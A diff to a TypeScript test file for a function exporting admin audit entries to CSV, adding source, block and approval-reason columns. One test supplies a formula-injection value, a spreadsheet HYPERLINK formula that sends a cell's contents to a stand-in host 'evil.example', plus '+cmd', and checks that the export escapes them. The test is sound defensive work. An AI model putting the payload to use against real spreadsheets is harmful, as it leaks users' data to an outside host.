@@ -65,8 +65,11 @@ const entry = (over: Partial<AuditEntry> = {}): AuditEntry => ({
     { id: 'u2', upn: 'gwen_fabrikam.com#EXT#@contoso.onmicrosoft.com' },
   ],
   reason: 'lost laptop',
-  detail: 'group:"Migration Wave 1"',
+  detail: 'picked by Bob from 2 users named "Lee"',
   conversationId: '19:abc@thread.tacv2',
+  source: 'group:"Migration Wave 1"',
+  block: true,
+  approvalWhy: 'bulk; over 10 users',
   ...over,
 });
 
@@ -136,6 +139,9 @@ describe('auditToCsv', () => {
       'clientIp',
       'userAgent',
       'httpRequestId',
+      'source',
+      'block',
+      'approvalWhy',
     ]);
     expect(rows).toHaveLength(3);
     expect(rows[1]).toEqual([
@@ -148,11 +154,14 @@ describe('auditToCsv', () => {
       '',
       '',
       'lost laptop',
-      'group:"Migration Wave 1"',
+      'picked by Bob from 2 users named "Lee"',
       '19:abc@thread.tacv2',
       '',
       '',
       '',
+      'group:"Migration Wave 1"',
+      'true',
+      'bulk; over 10 users',
     ]);
     expect(rows[2].slice(1, 5)).toEqual(['confirmed', 'req-1', 'bbbb', 'Bob']);
     expect(csv.endsWith('\r\n')).toBe(true);
@@ -173,6 +182,9 @@ describe('auditToCsv', () => {
           reason: undefined,
           detail: undefined,
           conversationId: undefined,
+          source: undefined,
+          block: undefined,
+          approvalWhy: undefined,
         }),
       ),
     );
@@ -226,13 +238,21 @@ describe('auditToCsv', () => {
   it('user text with commas, quotes, line breaks and formulas round-trips, guarded, in its own cell', () => {
     const nasty = '=HYPERLINK("https://evil.example?"&A1,"x"), then\r\n"more"';
     const rows = parseCsv(
-      auditToCsv([entry({ reason: nasty, detail: '+cmd', actor: { id: '@id', name: '-Ada, "the" admin' } })]),
+      auditToCsv([
+        entry({
+          reason: nasty,
+          detail: '+cmd',
+          source: nasty,
+          actor: { id: '@id', name: '-Ada, "the" admin' },
+        }),
+      ]),
     );
     expect(rows).toHaveLength(2);
     expect(rows[1][3]).toBe("'@id");
     expect(rows[1][4]).toBe(`'-Ada, "the" admin`);
     expect(rows[1][8]).toBe(`'${nasty}`);
     expect(rows[1][9]).toBe("'+cmd");
+    expect(rows[1][11]).toBe(`'${nasty}`);
     // no cell, once read, starts with a formula character
     for (const cell of rows[1]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
